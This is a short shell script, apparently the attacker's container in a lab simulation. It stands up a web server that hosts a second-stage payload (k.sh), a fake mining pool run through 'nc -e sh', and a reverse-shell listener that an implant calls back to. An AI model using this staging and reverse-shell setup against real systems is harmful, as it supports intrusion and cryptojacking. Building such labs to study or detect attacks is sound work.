#!/bin/sh
# The attacker's own container in the multi scenario (docker.sh --multi), at $ME on the lab
# network: a web server for the second stage (busybox httpd -vv on :8000 serving
# /attack/srv: k.sh), a fake mining pool on :3333 (pool.sh for each connection), and the
# reverse-shell listener on :4444 (listener.sh, whose implant calls back to $ME).
set -u
: "${ME:?ME: the attacker address}"
httpd -f -vv -p 8000 -h /attack/srv &
nc -ll -p 3333 -e sh /attack/pool.sh &
CALLBACK=$ME exec sh /attack/listener.sh
